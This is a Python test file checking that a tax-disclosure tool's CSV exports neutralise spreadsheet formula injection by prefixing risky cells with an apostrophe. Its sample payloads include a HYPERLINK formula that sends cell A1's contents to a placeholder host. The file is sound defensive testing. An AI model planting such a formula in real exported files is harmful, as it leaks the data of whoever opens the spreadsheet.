"""Every CSV taxgate writes is spreadsheet-safe (OWASP CSV injection; data contract §4)."""

from __future__ import annotations

import csv
import doctest
import io

from hypothesis import assume, given
from hypothesis import strategies as st

from taxgate import spreadsheet_csv
from taxgate.disclosure.response import ResponseRow, response_csv
from taxgate.disclosure.reviews import supplement_row
from taxgate.spreadsheet_csv import FORMULA_STARTS, neutralise, restore, rows_to_csv

PAYLOADS = (
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
)


def test_doc_examples() -> None:
    result = doctest.testmod(spreadsheet_csv, optionflags=doctest.ELLIPSIS)
    assert result.attempted > 0 and result.failed == 0


def test_every_formula_start_gets_an_apostrophe() -> None:
    assert [neutralise(p) for p in PAYLOADS] == [f"'{p}" for p in PAYLOADS]
    assert [neutralise(v) for v in ("R1", "", " =x", "'=x", None, 3)] == [
        "R1",
        "",
        " =x",
        "'=x",
        None,
        3,
    ]


def test_the_response_file_neutralises_request_ids_and_keeps_its_columns() -> None:
    rows = [ResponseRow(p, "REJECTED", "SCHEMA_COLUMNS") for p in PAYLOADS]
    data = response_csv([*rows, ResponseRow("R7", "NOT_DISCLOSED")])
    parsed = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    assert parsed[0] == ["request_id", "outcome", "reason_codes", *parsed[0][3:]]
    assert [row[0] for row in parsed[1:]] == [f"'{p}" for p in PAYLOADS] + ["R7"]
    assert [restore(row[0]) for row in parsed[1:]] == [*PAYLOADS, "R7"]


@given(st.lists(st.lists(st.text(max_size=8), min_size=2, max_size=2), max_size=5))
def test_no_cell_begins_a_formula_and_every_cell_reads_back(rows: list[list[str]]) -> None:
    # A value that itself begins with an apostrophe and a formula character reads back
    # without the apostrophe: the one ambiguity of the convention.
    assume(all(restore(cell) == cell for row in rows for cell in row))
    text = rows_to_csv(["a", "b"], rows)
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    assert not [cell for row in parsed for cell in row if cell.startswith(FORMULA_STARTS)]
    assert [[restore(cell) for cell in row] for row in parsed[1:]] == rows


def test_a_supplement_neutralises_a_formula_request_id_and_an_address() -> None:
    # Issue 16: supplements, like the response, carried requester text into a spreadsheet.
    row = supplement_row(
        "=1+1",
        street="@12 MAIN ST",
        unit="",
        city="-SPRINGFIELD",
        state="IL",
        zip_code="62701",
        as_of="2025-07-15",
    )
    cells = list(csv.reader(io.StringIO(response_csv([row]).decode("utf-8"))))
    assert cells[1][:4] == ["'=1+1", "DISCLOSED", "", "'@12 MAIN ST"]
    assert not [c for line in cells for c in line if c.startswith(FORMULA_STARTS)]
